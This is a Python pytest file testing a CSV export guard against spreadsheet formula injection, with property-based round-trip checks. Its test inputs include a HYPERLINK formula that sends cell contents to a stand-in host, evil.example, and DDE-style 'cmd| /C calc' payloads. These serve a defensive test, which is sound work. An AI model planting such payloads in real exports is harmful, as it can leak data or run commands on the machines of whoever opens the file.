"""CSV that a spreadsheet may open."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from proprium.exports.cells import csv_bytes, guarded


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "=",
        "-",
        "--1",
        "+1 555 0100",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert read(csv_bytes([[text]])) == [[f"'{text}"]]


@pytest.mark.parametrize("text", ["-1", "+1", "-0.5", "-1.5e-7", "1=1", "a@b.example", "/-/", "", "3-4", "'=1"])
def test_numbers_and_what_is_harmless_stay_as_they_are(text: str) -> None:
    assert read(csv_bytes([[text, "x"]])) == [[text, "x"]]


def test_numbers_truth_and_nothing_have_their_own_way_to_be_written() -> None:
    assert csv_bytes([[-1, 2.5, True, False, None, ""]]) == b"-1,2.5,true,false,,\r\n"


@given(st.lists(st.text(), min_size=2, max_size=2))
def test_whatever_a_cell_holds_comes_back(row: list[str]) -> None:
    [back] = read(csv_bytes([row]))
    assert back == [guarded(cell.encode("utf-8", "replace").decode()) for cell in row]


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))
